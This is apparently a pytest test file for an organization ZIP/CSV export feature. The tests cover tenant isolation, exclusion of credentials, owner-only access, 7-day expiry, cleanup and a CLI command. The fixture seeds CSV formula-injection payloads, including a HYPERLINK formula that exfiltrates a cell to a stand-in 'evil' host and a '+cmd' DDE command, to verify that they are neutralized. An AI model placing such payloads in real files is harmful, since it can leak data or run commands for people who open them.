"""A full export of an organization (issue 20 F): owners ask for it, a real RQ worker writes the ZIP (every table's
rows of that organization and nothing of another, no credential, CSV cells safe in a spreadsheet), the owner is
notified, downloads it for 7 days, then the maintenance cleanup removes it; `flask export organization` writes the
same ZIP from the CLI."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from flask import g
from sqlalchemy import func, select

from app.live import topics
from app.maintenance.cleanup import run_cleanup
from app.models import (
    AccessToken,
    AuditEntry,
    Export,
    ExportState,
    Favourite,
    Import,
    Invitation,
    Invoice,
    InvoiceCounter,
    InvoiceLine,
    Notification,
    ReportDefinition,
    ReportSchedule,
    ReportScheduleRun,
    Tag,
    Task,
    TimeLog,
    WebhookEndpoint,
    WeekApproval,
    invoice_entries,
    utcnow,
)
from app.organizations import exports
from app.organizations.export_tables import TABLES
from app.reports.files import reports_dir
from tests.conftest import login


def _full_world(factory):
    """The factory's world, with a row in every exported table, some text a spreadsheet would run, and
    credentials that must never leave."""
    w = factory.world()
    task = factory._save(Task(project_id=w.alpha_project.id, name="-2+3"))
    tag = factory._save(Tag(organization_id=w.org.id, name="@SUM(A1)"))
    w.formula_log = factory.time_log(w.member, w.alpha_project, description='=HYPERLINK("http://evil/?"&A1,"x")',
                                     task_id=task.id)
    w.formula_log.tags = [tag]
    favourite = factory._save(Favourite(user_id=w.member.id, project_id=w.alpha_project.id, task_id=task.id,
                                        description="+cmd|' /C calc'!A0"))
    favourite.tags = [tag]
    definition = factory._save(ReportDefinition(user_id=w.owner.id, organization_id=w.org.id, name="Monthly",
                                                params={"range": "last_month"}))
    factory._save(ReportSchedule(definition_id=definition.id, frequency="monthly", recipient_ids=[w.owner.id]))
    factory._save(ReportScheduleRun(definition_id=definition.id, period="2026-11"))
    w.invitation = factory._save(Invitation(organization_id=w.org.id, email="ivy@example.com", role="member",
                                            invited_by_id=w.owner.id))
    factory._save(AuditEntry(organization_id=w.org.id, actor_id=w.owner.id, action="team.create", target="Alpha"))
    factory._save(Import(organization_id=w.org.id, user_id=w.owner.id, file_name="toggl.csv",
                         content="Email,Project\n", format="toggl"))
    w.webhook = factory._save(WebhookEndpoint(organization_id=w.org.id, url="https://hooks.example.com/tb",
                                              events=["time_entry.created"]))
    factory._save(WeekApproval(organization_id=w.org.id, user_id=w.member.id, week_start=date(2026, 3, 2)))
    w.alpha_project.hourly_rate = 90  # a rate (issue 21)
    invoice = factory._save(Invoice(organization_id=w.org.id, client_id=w.client.id, number="2026-0001",
                                    status="sent", period_from=date(2026, 3, 1), period_to=date(2026, 3, 31),
                                    currency="EUR", tax_rate=Decimal("20.00"), notes="=1+1"))  # an invoice (21 C)
    line = factory._save(InvoiceLine(invoice_id=invoice.id, description="Alpha site", hours=Decimal("1.00"),
                                     rate=Decimal("90.00"), amount=Decimal("90.00")))
    factory.db.session.execute(invoice_entries.insert().values(line_id=line.id, time_log_id=w.formula_log.id))
    factory._save(InvoiceCounter(organization_id=w.org.id, year=2026, last=1))
    w.owner.totp_secret = "JBSWY3DPEHPK3PXPSECRETSECRET"
    w.token = factory._save(AccessToken(user_id=w.owner.id, name="ci", token_hash="f" * 64, hint="tb_abc"))
    factory.db.session.commit()
    # the other organization has rows in the same tables: none of them may appear
    factory._save(Tag(organization_id=w.other_org.id, name="other-tag"))
    factory._save(Task(project_id=w.other_project.id, name="other-task"))
    w.other_project.hourly_rate = 70
    factory.db.session.commit()
    return w


def _read_zip(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _csv(files, table) -> list[dict]:
    return list(csv.DictReader(io.StringIO(files[f"{table}.csv"].decode())))


def _ids(w):
    """Plain values of the scene, read before a job runs (the worker's session ends, detaching the records)."""
    from types import SimpleNamespace
    return SimpleNamespace(org=w.org.id, owner=w.owner.id, formula_log=getattr(w, "formula_log", w.member_log).id,
                           secrets=[w.owner.password_hash] + ([w.owner.totp_secret, w.token.token_hash,
                                                                w.invitation.nonce, w.webhook.secret]
                                                               if hasattr(w, "token") else []))


def _exported(client, w, run_jobs) -> Export:
    ids = _ids(w)
    login(client, w.owner)
    response = client.post(f"/organizations/{ids.org}/export")
    assert response.status_code == 303 and response.headers["Location"].endswith(f"/organizations/{ids.org}/export")
    assert run_jobs()
    # the test's requests share its app context, and so flask-login's cached user, which the worker's session end
    # detached: the next request loads its user again, as a real one would
    g.pop("_login_user", None)
    export = exports.exports_of(ids.org)[0]
    assert export.status == ExportState.COMPLETED, export.error_message
    return export


def test_the_zip_holds_every_table_of_the_organization_and_nothing_of_another(client, factory, db, run_jobs):
    w = _full_world(factory)
    ids = _ids(w)
    export = _exported(client, w, run_jobs)
    files = _read_zip(reports_dir() / export.file_path)
    manifest = json.loads(files["manifest.json"])
    assert manifest["version"] == 1 and manifest["organization_id"] == ids.org and manifest["created_at"]
    assert set(files) == {"manifest.json"} | {f"{t.name}.{ext}" for t in TABLES for ext in ("csv", "json")}
    for table in TABLES:
        in_database = db.session.scalar(select(func.count()).select_from(table.query(ids.org).subquery()))
        rows = json.loads(files[f"{table.name}.json"])
        assert len(rows) == len(_csv(files, table.name)) == in_database == export.counts[table.name] \
            == manifest["files"][f"{table.name}.csv"] == manifest["files"][f"{table.name}.json"], table.name
        assert in_database > 0, f"the test world has no {table.name} row: it proves nothing for that table"
    assert {u["email"] for u in json.loads(files["users.json"])} == {
        "owner@acme.test", "admin@acme.test", "manager@acme.test", "member@acme.test", "beta@acme.test"}
    org_logs = set(db.session.scalars(select(TimeLog.id).where(TimeLog.organization_id == ids.org)))
    assert {r["id"] for r in json.loads(files["time_logs.json"])} == org_logs
    assert {r["time_log_id"] for r in json.loads(files["time_log_tags.json"])} == {ids.formula_log}
    everything = b"".join(files.values())
    for foreign in (b"Other Inc", b"Other project", b"outsider@other.test", b"other-tag", b"other-task",
                    b"root@platform.test"):
        assert foreign not in everything, foreign
    # credentials never leave: password hashes, two-factor secrets, token hashes, invitation links' nonces
    for secret in ids.secrets:
        assert secret.encode() not in everything
    assert b"password_hash" not in everything and b"totp" not in everything
    # the Export row says who, when, how big and how many; the owner is told, the request is audited
    assert export.user_id == ids.owner and export.byte_size == (reports_dir() / export.file_path).stat().st_size
    assert export.finished_at and export.expires_at - export.finished_at == timedelta(days=7)
    note = db.session.scalar(select(Notification).where(Notification.user_id == ids.owner,
                                                        Notification.kind == "export_ready"))
    assert note is not None and note.link == f"/organizations/{ids.org}/export" and "ready" in note.title
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "organization.export",
                                                      AuditEntry.organization_id == ids.org)) is not None


def test_csv_cells_that_would_start_a_formula_are_neutralized(client, factory, db, run_jobs):
    w = _full_world(factory)
    ids = _ids(w)
    files = _read_zip(reports_dir() / _exported(client, w, run_jobs).file_path)
    log = next(r for r in _csv(files, "time_logs") if r["id"] == str(ids.formula_log))
    assert log["description"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert {r["name"] for r in _csv(files, "tags")} == {"'@SUM(A1)"}
    assert {r["name"] for r in _csv(files, "tasks")} == {"'-2+3"}
    assert {r["description"] for r in _csv(files, "favourites")} == {"'+cmd|' /C calc'!A0"}
    for name in files:
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(files[name].decode())):
                assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (name, row)
    # the JSON keeps the values exactly; numbers stay numbers in the CSV
    assert {r["name"] for r in json.loads(files["tags.json"])} == {"@SUM(A1)"}
    assert log["duration_minutes"] == "60"


@pytest.mark.parametrize("who", ["member", "manager", "admin", "outsider"])
def test_only_owners_may_see_ask_for_or_download_an_export(client, factory, db, run_jobs, who):
    w = factory.world()
    export = Export(organization_id=w.org.id, user_id=w.owner.id)
    db.session.add(export)
    db.session.commit()
    assert exports.build_export(export.id).startswith(f"export {export.id}:")
    expected = 404 if who == "outsider" else 403
    login(client, getattr(w, who))
    assert client.get(f"/organizations/{w.org.id}/export").status_code == expected
    assert client.post(f"/organizations/{w.org.id}/export").status_code == expected
    assert client.get(f"/organizations/{w.org.id}/exports/{export.id}/download").status_code == expected
    assert db.session.scalar(select(func.count()).select_from(Export)) == 1  # nothing was asked for
    assert not topics.can_receive(getattr(w, who), f"export:org:{w.org.id}")
    assert topics.can_receive(w.owner, f"export:org:{w.org.id}")


def test_the_download_expires_after_7_days_and_the_cleanup_removes_the_file(client, factory, db, run_jobs):
    w = factory.world()
    org_id = w.org.id
    export = _exported(client, w, run_jobs)
    url = f"/organizations/{org_id}/exports/{export.id}/download"
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert zipfile.ZipFile(io.BytesIO(response.data)).read("manifest.json")
    other = factory.organization()
    assert client.get(f"/organizations/{other.id}/exports/{export.id}/download").status_code == 404
    path = reports_dir() / export.file_path
    run_cleanup()
    assert path.is_file() and db.session.get(Export, export.id) is not None  # still kept
    export.expires_at = utcnow() - timedelta(seconds=1)
    db.session.commit()
    assert client.get(url).status_code == 404
    export_id = export.id
    assert run_cleanup()["exports"] == 1
    assert not path.exists() and db.session.scalar(select(func.count()).where(Export.id == export_id)) == 0


def test_the_cli_writes_the_zip_and_refuses_bad_input(app, factory, db, tmp_path):
    w = _full_world(factory)
    runner = app.test_cli_runner()
    out = tmp_path / "acme.zip"
    result = runner.invoke(args=["export", "organization", str(w.org.id), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"wrote {out}" in result.output
    files = _read_zip(out)
    assert json.loads(files["manifest.json"])["organization_id"] == w.org.id
    assert len(json.loads(files["projects.json"])) == 3 and b"Other project" not in b"".join(files.values())
    for args, message in [
        (["999999", "--out", str(tmp_path / "x.zip")], "No organization 999999"),
        (["abc", "--out", str(tmp_path / "x.zip")], "ORG_ID must be a number"),
        ([str(w.org.id), "--out", str(tmp_path / "missing" / "x.zip")], "does not exist"),
        ([str(w.org.id), "--out", str(tmp_path)], "is a folder"),
    ]:
        result = runner.invoke(args=["export", "organization", *args])
        assert result.exit_code == 1 and message in result.output and "Traceback" not in result.output, result.output
    assert not (tmp_path / "x.zip").exists() and sorted(p.name for p in tmp_path.iterdir()) == ["acme.zip"]


def test_deleting_the_organization_removes_its_exports_and_their_files(factory, db):
    from app.organizations import lifecycle
    w = factory.world()
    export = Export(organization_id=w.org.id, user_id=w.owner.id)
    db.session.add(export)
    db.session.commit()
    exports.build_export(export.id)
    path, export_id, org_id = reports_dir() / export.file_path, export.id, w.org.id
    assert path.is_file()
    lifecycle.delete(org_id)
    assert not path.exists() and db.session.scalar(select(func.count()).where(Export.id == export_id)) == 0


def test_an_export_whose_job_died_follows_its_job_and_never_stays_running(factory, db):
    """The reconciler fails or queues again a job whose worker died; the export follows through the kind's follower
    (what tracking.transition calls), its dead attempt's partial file removed."""
    from app.background import tracking
    from app.models import JobState, JobStatus
    w = factory.world()
    export = exports.request_export(w.owner, w.org)
    status = db.session.scalar(select(JobStatus).where(JobStatus.rq_job_id == export.rq_job_id))
    assert status.kind == "organization_export" and status.queue == "maintenance"
    export.start()
    db.session.commit()
    reports_dir().mkdir(parents=True, exist_ok=True)
    partial = reports_dir() / f"export-{export.id}-20261205000000-abcdef01.zip.part"
    partial.write_bytes(b"half")
    status.status = JobState.PENDING
    tracking.follow(status)
    assert export.status == ExportState.PENDING and not partial.exists()
    status.status, status.error_message = JobState.FAILED, "the worker died (SIGKILL)"
    tracking.follow(status)
    assert export.status == ExportState.FAILED and export.error_message == "the worker died (SIGKILL)"
